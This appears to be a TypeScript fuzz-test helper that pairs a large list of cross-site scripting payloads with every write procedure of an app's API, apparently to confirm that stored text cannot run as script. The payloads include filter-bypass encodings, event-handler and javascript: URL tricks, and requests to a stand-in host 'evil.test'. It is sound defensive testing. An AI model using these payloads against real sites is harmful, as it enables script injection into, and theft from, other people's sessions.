import { type AnyContractProcedure, type AnyContractRouter, isContractProcedure } from '@orpc/contract'
import type { z } from 'zod'
import { contract } from '#core/contract.ts'
import { made, type Pool } from '../../fuzz/made-values.ts'
import { dice } from '../../support/dice.ts'

/** What runs where something of a text becomes more than text: a tag, an attribute, an address, a style, a template. */
const acts = ['__ran=1', 'top.__ran=1', 'parent.__ran=1', 'self.__ran=1', 'alert(1)', 'open("//evil.test")']
const shapes: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `</title><script>${act}</script>`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `--><script>${act}</script>`,
  (act) => `]]><script>${act}</script>`,
  (act) => `<ScRiPt>${act}</sCrIpT>`,
  (act) => `<img src=x onerror=${act}>`,
  (act) => `<img/src=x/onerror=${act}//`,
  (act) => `<svg onload=${act}>`,
  (act) => `<svg><script>${act}</script>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x>`,
  (act) => `<body onload=${act}>`,
  (act) => `<video src=x onerror=${act}>`,
  (act) => `<audio src=x onerror=${act}>`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<input autofocus onfocus=${act}>`,
  (act) => `<select autofocus onfocus=${act}>`,
  (act) => `<marquee onstart=${act}>`,
  (act) => `<object data="javascript:${act}">`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<iframe src="javascript:${act}">`,
  (act) => `<iframe srcdoc="<script>${act}</script>">`,
  (act) => `<a href="javascript:${act}">x</a>`,
  (act) => `<a href=" java\tscript:${act}">x</a>`,
  (act) => `<form action="javascript:${act}"><button>`,
  (act) => `<button formaction="javascript:${act}">`,
  (act) => `<math href="javascript:${act}">x`,
  (act) => `<base href="javascript:${act}//">`,
  (act) => `<meta http-equiv=refresh content="0;javascript:${act}">`,
  (act) => `<link rel=import href="data:text/html,<script>${act}">`,
  (act) => `"onfocus=${act} autofocus x="`,
  (act) => `'onmouseover=${act} x='`,
  (act) => `" style="animation:x" onanimationstart="${act}`,
  (act) => `javascript:${act}//`,
  (act) => `data:text/html,<script>${act}</script>`,
  (act) => `{{constructor.constructor("${act}")()}}`,
  (act) => `\${${act}}`,
  (act) => `';${act};//`,
  (act) => `");${act};//`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `&#60;script&#62;${act}&#60;/script&#62;`,
  (act) => `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  (act) => `%3Cscript%3E${act}%3C/script%3E`,
  (act) => `<style>*{background:url("javascript:${act}")}</style>`,
  (act) => `<style>@import "//evil.test/${act}"</style>`,
  (act) => `<img src="//evil.test/?${act}">`,
  (act) => `<img srcset="//evil.test/?${act} 2x">`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<x contenteditable onblur=${act}>`,
  (act) => `<dialog open onclose=${act}>`,
  (act) => `<link rel=stylesheet href="//evil.test/${act}">`,
  (act) => `<object type=text/html data="//evil.test/${act}">`,
  (act) => `<picture><source srcset=x onerror=${act}><img src=x onerror=${act}>`,
  (act) => `<table background="javascript:${act}">`,
  (act) => `<isindex type=image src=1 onerror=${act}>`,
  (act) => `<keygen autofocus onfocus=${act}>`,
  (act) => `<bgsound src="javascript:${act}">`,
  (act) => `<frameset onload=${act}>`,
  (act) => `<layer src="javascript:${act}">`,
  (act) => `\u202e>tpircs/<${act}>tpircs<`,
  (act) => `<\u0000script>${act}</script>`,
  (act) => `<scr<script>ipt>${act}</scr</script>ipt>`,
  (act) => `<script/x>${act}</script >`,
  (act) => `<script src=data:,${act}></script>`,
  (act) => `<svg><use href="data:image/svg+xml,<svg onload=${act}>">`,
  (act) => `<svg><foreignObject><img src=x onerror=${act}>`,
]

export const payloads: readonly string[] = shapes.flatMap((shape) => acts.map(shape)).slice(0, 400)

interface Writing {
  readonly path: string
  readonly procedure: AnyContractProcedure
}

/** They end the session, the account or the house that the test walks through. */
const LEFT_OUT =
  /^(?:staff\.(?:setSecret|change|lock|signIn|approve)|setup|rescue|backup|imports|search|events)/

const writing = (tree: AnyContractRouter, path: readonly string[] = []): readonly Writing[] => {
  if (!isContractProcedure(tree))
    return Object.entries(tree).flatMap(([name, branch]) =>
      writing(branch as AnyContractRouter, [...path, name]),
    )
  const { kind } = tree['~orpc'].meta as { readonly kind?: string }
  const named = path.join('.')
  return kind === 'query' || LEFT_OUT.test(named) ? [] : [{ path: named, procedure: tree }]
}

const procedures = writing(contract)

type Ask = (input: unknown) => Promise<unknown>

const procedureAt = (client: unknown, path: string): Ask =>
  path.split('.').reduce((node, name) => (node as Record<string, unknown>)[name], client) as Ask

/** Every act of the contract with script in each of its free texts, as often as there are payloads. */
export const plantEverywhere = async (client: unknown, ids: readonly string[]): Promise<number> => {
  const chance = dice(400)
  let kept = 0
  const rounds = Math.max(payloads.length, procedures.length * 4)
  for (let at = 0; at < rounds; at += 1) {
    const { path, procedure } = procedures[at % procedures.length] as Writing
    const schema = procedure['~orpc'].inputSchema as z.ZodType | undefined
    if (schema === undefined) continue
    const pool: Pool = { ids, says: payloads[at % payloads.length] as string }
    await procedureAt(
      client,
      path,
    )(made(schema, chance, pool)).then(
      () => {
        kept += 1
      },
      () => undefined,
    )
  }
  return kept
}
